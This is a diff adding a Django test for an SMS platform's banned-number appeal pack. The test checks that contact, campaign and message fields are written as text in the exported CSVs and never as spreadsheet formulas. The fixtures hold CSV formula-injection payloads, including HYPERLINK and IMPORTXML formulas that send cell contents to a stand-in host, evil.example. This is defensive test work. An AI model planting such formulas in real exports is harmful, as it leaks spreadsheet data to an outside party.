@@ -273,3 +273,51 @@ def test_replacing_a_banned_number_keeps_lists_templates_campaigns_and_credits(
     plan = WarmupPlan.objects.get(sender=new)
     assert (plan.state, plan.cap_today) == (WarmupPlan.State.RUNNING, 50)
     assert AuditEvent.objects.filter(workspace=workspace, action="number.replaced").exists()
+
+
+def test_the_appeal_packs_text_cells_are_never_spreadsheet_formulas(workspace, member_client):
+    # given: a contact, a campaign and a text whose values a spreadsheet would evaluate (a
+    # contact's name comes from imports and forms; the pack is opened in a spreadsheet)
+    number = _number(workspace, "+994501234567", Sender.Status.BANNED)
+    template = MessageTemplate.objects.create(
+        workspace=workspace, name="+Promo", variants=["Hello"]
+    )
+    campaign = Campaign.objects.create(
+        workspace=workspace, name="=1+1", template=template, status=Campaign.Status.COMPLETED
+    )
+    contact = Contact.objects.create(
+        workspace=workspace,
+        phone="+994551110001",
+        first_name='=HYPERLINK("https://evil.example/?"&A1,"open")',
+        last_name="@SUM(1)",
+        consent_source="-2+3",
+        opted_out_at=timezone.now(),
+        opt_out_source="=A1",
+    )
+    Message.objects.create(
+        workspace=workspace,
+        campaign=campaign,
+        contact=contact,
+        sender=number,
+        phone=contact.phone,
+        body='=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
+        status=Message.Status.DELIVERED,
+        accepted_at=timezone.now() - timedelta(days=1),
+    )
+
+    # when: the owner downloads the pack
+    response = member_client.get(
+        reverse("messaging_numbers:appeal_pack", args=[workspace.slug, number.public_id])
+    )
+
+    # then: every such cell is written as text (a leading apostrophe), the phone as it is
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    consent = _rows(archive, "consent_sources.csv")[0]
+    assert consent["phone"] == "+994551110001"
+    assert consent["first_name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
+    assert (consent["last_name"], consent["consent_source"]) == ("'@SUM(1)", "'-2+3")
+    assert _rows(archive, "opt_outs.csv")[0]["source"] == "'=A1"
+    diversity = _rows(archive, "text_diversity.csv")[0]
+    assert (diversity["campaign"], diversity["content"]) == ("'=1+1", "'+Promo")
+    sample = _rows(archive, "message_samples.csv")[0]["text"]
+    assert sample == '\'=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")'
